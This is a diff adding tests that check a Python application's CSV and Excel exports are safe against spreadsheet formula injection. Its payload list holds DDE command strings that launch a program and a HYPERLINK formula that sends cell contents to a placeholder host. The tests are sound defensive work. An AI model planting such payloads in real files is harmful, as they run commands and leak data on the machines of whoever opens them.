@@ -8,10 +8,13 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
 
 from khdesk.core.domain import template as tpl
 from khdesk.core.errors import InputError
 from khdesk.core.io.tabular import read_tables, write_empty_template, write_tables
+from khdesk.core.text import forbidden_char_problem, nfc
 
 REPO = Path(__file__).resolve().parents[2]
 SHIPPED_TEMPLATE = REPO / "resources" / "template" / "khdesk-mau-nhap-lieu.xlsx"
@@ -490,3 +493,165 @@ def test_write_single_csv(tmp_path: Path) -> None:
     rows = sample_tables()["ratings"]
     write_tables(path, {"ratings": rows})
     assert [r.values for r in read_tables(path).sheets["ratings"]] == rows
+
+
+# --------------------------------------------------------------------------- issue 15, finding 5
+
+# What a spreadsheet program may read as a formula, independently of the code under test:
+# =, +, -, @ (and their full-width forms) first, also after TAB, CR, LF or spaces.
+_LIVE_START = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+PAYLOADS = [
+    '=HYPERLINK("http://x.example/?q="&A1;"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\uff1d1+1",
+    "'=1+1",  # a value that really starts with a quote comes back with it
+    "''quoted",
+    "'plain quote",
+    "- gạch đầu dòng",
+]
+
+
+def _live(text: str) -> bool:
+    return text[:1] in _LIVE_START or text.lstrip()[:1] in _LIVE_START
+
+
+def _payload_tables(values: list[str]) -> dict[str, list[dict]]:
+    tables = sample_tables()
+    base = tables["candidates"][0]
+    tables["candidates"] = [
+        {**base, "file_code": f"X01-CB01-{i:04d}", "full_name": v, "notes": v}
+        for i, v in enumerate(values, 1)
+    ]
+    tables["orgs"][1]["name"] = values[0]
+    return tables
+
+
+def _csv_fields(folder: Path) -> list[str]:
+    import csv
+
+    out = []
+    for path in folder.iterdir():
+        with open(path, encoding="utf-8-sig", newline="") as f:
+            out += [field for row in csv.reader(f) for field in row]
+    return out
+
+
+def _xlsx_cells(path: Path) -> list:
+    wb = openpyxl.load_workbook(path)
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+def _assert_read_back(path: Path, tables: dict[str, list[dict]]) -> None:
+    result = read_tables(path)
+    assert [str(p) for p in result.problems] == []
+    for key in ("orgs", "candidates"):
+        assert [r.values for r in result.sheets[key]] == tables[key]
+
+
+def test_finding_5_csv_export_is_inert(tmp_path: Path) -> None:
+    tables = _payload_tables(PAYLOADS)
+    folder = tmp_path / "xuat"
+    write_tables(folder, tables)
+    fields = _csv_fields(folder)
+    assert "'=cmd|' /C calc'!A0" in fields
+    assert [f for f in fields if _live(f)] == []
+    _assert_read_back(folder, tables)
+    # A single-sheet CSV is written the same way.
+    (tmp_path / "mot").mkdir()
+    write_tables(tmp_path / "mot" / "qc.csv", {"candidates": tables["candidates"]})
+    assert [f for f in _csv_fields(tmp_path / "mot") if _live(f)] == []
+
+
+def test_finding_5_xlsx_export_is_inert(tmp_path: Path) -> None:
+    import zipfile
+
+    tables = _payload_tables(PAYLOADS)
+    path = tmp_path / "xuat.xlsx"
+    write_tables(path, tables)
+    cells = _xlsx_cells(path)
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    live = [c for c in cells if isinstance(c.value, str) and _live(c.value)]
+    assert len(live) >= 2 * 6 and all(c.data_type == "s" and c.quotePrefix for c in live)
+    with zipfile.ZipFile(path) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if "worksheets" in n)
+    _assert_read_back(path, tables)
+
+
+def test_finding_5_csv_export_saved_as_xlsx_reads_back(tmp_path: Path) -> None:
+    """A CSV export opened in a spreadsheet program and saved as .xlsx keeps the escaping
+    quote as part of the text: the import takes it off there too."""
+    import csv
+
+    tables = _payload_tables(PAYLOADS)
+    write_tables(tmp_path / "xuat", tables)
+    wb = openpyxl.Workbook()
+    wb.remove(wb.active)
+    for sheet in tpl.SHEETS:
+        ws = wb.create_sheet(sheet.name)
+        with open(tmp_path / "xuat" / f"{sheet.name}.csv", encoding="utf-8-sig") as f:
+            for row in csv.reader(f):
+                ws.append([None if v == "" else v for v in row])
+                for cell in ws[ws.max_row]:
+                    cell.data_type = "s"  # as text, the way it was shown
+    wb.save(tmp_path / "luu-lai.xlsx")
+    result = read_tables(tmp_path / "luu-lai.xlsx")
+    names = [r.values["full_name"] for r in result.sheets["candidates"]]
+    assert names == PAYLOADS
+
+
+def test_finding_5_texts_with_leading_controls_are_inert(tmp_path: Path) -> None:
+    # Not what the import stores, but a bundle may carry a note starting with TAB or LF.
+    values = ["\t=1+1", "\r\n@x", " =1+1", "\u3000=1"]
+    tables = _payload_tables(values)
+    write_tables(tmp_path / "xuat", tables)
+    assert [f for f in _csv_fields(tmp_path / "xuat") if _live(f)] == []
+    write_tables(tmp_path / "xuat.xlsx", tables)
+    assert [c for c in _xlsx_cells(tmp_path / "xuat.xlsx") if c.data_type == "f"] == []
+
+
+def test_finding_5_report_workbooks_are_inert(tmp_path: Path) -> None:
+    """Statistics, screening and annual workbooks all write their rows through add_sheet."""
+    from openpyxl import Workbook
+
+    from khdesk.core.reports.stats_export import add_sheet
+
+    wb = Workbook(write_only=True)
+    add_sheet(wb, "Cấp xã", [["Mã", "Tên"], *[["X01", p] for p in PAYLOADS], ["X02", 3]], {})
+    wb.save(tmp_path / "tk.xlsx")
+    cells = _xlsx_cells(tmp_path / "tk.xlsx")
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert [c.value for c in cells if c.column == 2][1:] == [*PAYLOADS, 3]
+
+
+_TEXT = st.text(
+    alphabet=st.one_of(
+        st.sampled_from(list("=+-@'\"; ,\t\n\uff1d\uff0b\uff0d\uff20|!") + ["\u0303", "\u00a0"]),
+        st.characters(blacklist_categories=("Cs", "Cc")),
+    ),
+    max_size=12,
+)
+# A formula's start, a quote, or nothing, before any text.
+_START = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", " =", "\t+", "\uff1d", "-'"])
+_TEXT = st.builds(lambda start, text: start + text, _START, _TEXT)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
+@given(texts=st.lists(_TEXT, min_size=1, max_size=4))
+def test_finding_5_any_exported_text_round_trips_and_is_never_a_formula(tmp_path_factory, texts):
+    """Exported text is stored text (NFC, trimmed, no forbidden characters): through CSV and
+    xlsx it comes back unchanged, and no written cell is live."""
+    values = [v for v in (nfc(t) for t in texts) if v and not forbidden_char_problem(v)]
+    assume(values)
+    tables = _payload_tables(values)
+    work = tmp_path_factory.mktemp("prop")
+    write_tables(work / "xuat", tables)
+    assert [f for f in _csv_fields(work / "xuat") if _live(f)] == []
+    _assert_read_back(work / "xuat", tables)
+    write_tables(work / "xuat.xlsx", tables)
+    cells = _xlsx_cells(work / "xuat.xlsx")
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and _live(c.value))
+    _assert_read_back(work / "xuat.xlsx", tables)
